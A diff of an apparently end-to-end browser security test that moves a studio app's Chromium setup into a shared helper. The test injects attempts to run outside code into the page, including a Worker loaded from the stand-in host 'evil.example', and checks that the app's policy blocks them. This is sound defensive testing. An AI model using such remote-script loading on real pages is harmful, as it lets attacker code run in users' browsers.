@@ -2,10 +2,8 @@
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { buildRenderer, chromiumPath, openInBrowser, type OpenedStudio } from './studio.test-support';
-
-if (chromiumPath === undefined) process.stderr.write('e2e: security not run, there is no Chromium\n');
+import { expect, test } from 'vitest';
+import { inChromium } from './in-chromium.test-support';
 
 /** Runs in the page. `evil` is set by whatever should not have run. */
 const attempts = `
@@ -30,14 +28,7 @@ const attempts = `
   try { new Worker('https://evil.example/w.js'); } catch {}
 `;
 
-describe.skipIf(chromiumPath === undefined)('the studio against the rest of the web', { timeout: 120_000 }, () => {
-  let studio: OpenedStudio;
-  beforeAll(async () => {
-    await buildRenderer();
-    studio = await openInBrowser();
-  }, 120_000);
-  afterAll(() => studio.close());
-
+inChromium('the studio against the rest of the web', {}, (studio) => {
   test('runs nothing and reaches nothing that its policy does not name', async () => {
     const page = await studio.openWindow();
     await page.evaluate(attempts);
